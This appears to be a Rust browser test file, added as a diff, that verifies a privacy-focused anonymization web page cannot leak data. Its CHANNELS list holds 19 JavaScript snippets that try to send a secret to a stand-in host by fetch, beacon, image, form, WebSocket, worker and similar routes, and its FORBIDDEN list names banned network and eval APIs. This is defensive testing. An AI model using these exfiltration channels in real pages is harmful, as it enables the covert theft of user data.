@@ -1,0 +1,192 @@
+//! Nothing leaves the page: each channel that its policy closes is tried, and what no policy closes the page's code does
+//! not use.
+
+use std::{fs, path::Path, time::Duration};
+
+use lookalike_tests::program::{Folder, workspace};
+use serde_json::json;
+
+use crate::{page::Page, sink::Sink};
+
+/// Ways to send a secret elsewhere; `out` is where to. Each may throw or be ignored, as the browser likes.
+const CHANNELS: [(&str, &str); 19] = [
+    ("fetch", "fetch(out, { mode: 'no-cors' }).catch(() => {})"),
+    (
+        "fetch with keepalive",
+        "fetch(out, { mode: 'no-cors', method: 'POST', keepalive: true }).catch(() => {})",
+    ),
+    ("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', out); x.send()"),
+    ("beacon", "navigator.sendBeacon(out, 'secret')"),
+    ("image", "new Image().src = out"),
+    ("image of a style", "document.body.style.backgroundImage = `url(${out})`"),
+    ("form", "add('form', { action: out, method: 'post' }).submit()"),
+    (
+        "form in a frame",
+        "add('iframe', { name: 'f' }); add('form', { action: out, method: 'post', target: 'f' }).submit()",
+    ),
+    ("font", "new FontFace('x', `url(${out})`).load().catch(() => {})"),
+    ("frame", "add('iframe', { src: out })"),
+    ("object", "add('object', { data: out })"),
+    ("embed", "add('embed', { src: out })"),
+    ("video", "add('video', { src: out })"),
+    ("script", "add('script', { src: out })"),
+    ("style sheet", "add('link', { rel: 'stylesheet', href: out })"),
+    ("prefetch", "add('link', { rel: 'prefetch', href: out })"),
+    ("WebSocket", "new WebSocket(out.replace('http', 'ws'))"),
+    ("EventSource", "new EventSource(out)"),
+    (
+        "Web Worker",
+        "new Worker(URL.createObjectURL(new Blob([`fetch('${out}', { mode: 'no-cors' }); importScripts('${out}')`])))",
+    ),
+];
+
+/// Tries every channel; what reaches the sink has left the page.
+async fn try_all(client: &fantoccini::Client, sink: &Sink) {
+    for (at, (name, code)) in CHANNELS.iter().enumerate() {
+        let out = format!("http://elsewhere.example/{at}?secret");
+        let attempt = format!(
+            "const out = '{out}';\
+             const add = (name, given) => document.body.appendChild(Object.assign(document.createElement(name), given));\
+             try {{ {code} }} catch (error) {{ }}"
+        );
+        client.execute(&attempt, vec![]).await.unwrap();
+        tokio::time::sleep(Duration::from_millis(150)).await;
+        assert_eq!(sink.requests(), Vec::<String>::new(), "by {name}");
+    }
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    assert_eq!(sink.requests(), Vec::<String>::new());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_channel_that_the_policy_closes_leads_out() {
+    let page = Page::open(&[]).await;
+    try_all(&page.client, &page.sink).await;
+    // The proxy does see what is not blocked: no policy keeps anybody from going elsewhere.
+    let _ = page.client.goto("http://elsewhere.example/").await;
+    assert!(page.sink.requests().iter().any(|line| line.contains("elsewhere.example")));
+    page.close().await;
+}
+
+/// The page as one file, from a disk: the same, and the whole way.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_page_as_one_file_works_from_a_disk_and_is_sealed() {
+    let file = std::env::var_os("LOOKALIKE_SINGLE_FILE")
+        .map_or_else(|| workspace().join("target/web/lookalike.html"), std::path::PathBuf::from);
+    assert!(file.is_file(), "{} is missing: build it with `cargo xtask single-file`", file.display());
+    let folder = Folder::new();
+    fs::copy(&file, folder.file("lookalike.html")).unwrap();
+    folder.write("in.csv", crate::hospital());
+    folder.write("in.csv.gz", crate::opening::gzip(&crate::hospital()));
+    let page = Page::from_disk(&folder.file("lookalike.html")).await;
+    assert_eq!(page.attribute("#threads", "data-isolated").await, "false");
+    page.click("#sample-hospital").await;
+    page.find("#opened[data-name='hospital.csv']").await;
+    crate::command_line(&folder, "3", "5", "5");
+    // The import module is inside, too.
+    page.find("#file-input").await.send_keys(&folder.file("in.csv.gz")).await.unwrap();
+    page.find("#open-form[data-packing='gzip']").await;
+    crate::set_up(&page, &folder, "3", "5", "5").await;
+    page.anonymize().await;
+    assert_eq!(crate::text(&page.download("#download-table").await), folder.text("out.csv"));
+    // So is the desk.
+    assert!(!page.saved("#download-config", "in-config.json").await.is_empty());
+    try_all(&page.client, &page.sink).await;
+    page.close().await;
+}
+
+/// No policy closes navigation, and not reliably peer connections and name look-ups: the code must have none.
+const FORBIDDEN: [&str; 17] = [
+    "RTCPeerConnection",
+    "RTCDataChannel",
+    "WebTransport",
+    "window.open",
+    "self.open(",
+    "location.assign",
+    "location.replace",
+    "location =",
+    "location.href =",
+    ".navigate(",
+    "navigation.",
+    "dns-prefetch",
+    "preconnect",
+    "prerender",
+    "http-equiv=\"refresh\"",
+    "document.write",
+    "eval(",
+];
+
+fn scripts(folder: &Path, found: &mut Vec<std::path::PathBuf>) {
+    for entry in fs::read_dir(folder).unwrap() {
+        let path = entry.unwrap().path();
+        let ending = path.extension().and_then(|e| e.to_str()).unwrap_or_default();
+        if path.is_dir() {
+            scripts(&path, found);
+        } else if ["js", "html"].contains(&ending) {
+            found.push(path);
+        }
+    }
+}
+
+/// What a wasm module can do is what the script beside it lends it, so the scripts tell all.
+#[test]
+fn the_code_uses_nothing_that_no_policy_closes() {
+    let dist = std::env::var_os("LOOKALIKE_DIST")
+        .map_or_else(|| workspace().join("target/web/dist"), std::path::PathBuf::from);
+    let mut files = Vec::new();
+    scripts(&dist, &mut files);
+    assert!(files.len() >= 10, "{files:?}");
+    let lacks = |text: &str, what: &str| !text.replace('\'', "\"").contains(what);
+    for file in files {
+        let text = fs::read_to_string(&file).unwrap();
+        for what in FORBIDDEN {
+            assert!(lacks(&text, what), "{} has {what}", file.display());
+        }
+    }
+    assert!(
+        !lacks("new RTCPeerConnection()", FORBIDDEN[0])
+            && !lacks("<meta http-equiv='refresh'", FORBIDDEN[14])
+    );
+}
+
+/// Without a network the page is still there, whole.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_page_works_without_its_server() {
+    let folder = Folder::new();
+    folder.write("in.csv", crate::hospital());
+    folder.write("in.csv.gz", crate::opening::gzip(&crate::hospital()));
+    let mut page = Page::open(&[]).await;
+    let kept = "const done = arguments[arguments.length - 1];\
+        navigator.serviceWorker.ready.then(({ active }) => done(active.scriptURL));";
+    let script = page.client.execute_async(kept, vec![]).await.unwrap();
+    assert!(script.as_str().unwrap().ends_with("/sw.js"));
+    page.stop_server();
+    page.client.refresh().await.unwrap();
+    page.attribute_not("#threads", "data-threads", "0").await;
+    // With threads: the headers were kept as well.
+    assert_eq!(page.attribute("#threads", "data-isolated").await, "true");
+    page.find("#file-input").await.send_keys(&folder.file("in.csv.gz")).await.unwrap();
+    page.find("#open-form[data-packing='gzip']").await;
+    crate::set_up(&page, &folder, "3", "1", "1").await;
+    page.anonymize().await;
+    assert!(!page.saved("#download-config", "in-config.json").await.is_empty());
+    page.close().await;
+}
+
+/// A page that can be installed says what it is called and how it looks.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_page_can_be_installed() {
+    let page = Page::open(&[]).await;
+    let manifest = "const done = arguments[arguments.length - 1];\
+        fetch('./manifest.webmanifest').then((answer) => answer.json()).then(done);";
+    let manifest = page.client.execute_async(manifest, vec![]).await.unwrap();
+    assert_eq!((&manifest["display"], &manifest["start_url"]), (&json!("standalone"), &json!("./")));
+    let icons = manifest["icons"].as_array().unwrap();
+    assert!(!icons.is_empty());
+    for icon in icons {
+        let load = "const done = arguments[arguments.length - 1]; const image = new Image();\
+            image.onload = () => done(image.naturalWidth > 0); image.onerror = () => done(false);\
+            image.src = arguments[0];";
+        assert_eq!(page.client.execute_async(load, vec![icon["src"].clone()]).await.unwrap(), json!(true));
+    }
+    page.close().await;
+}
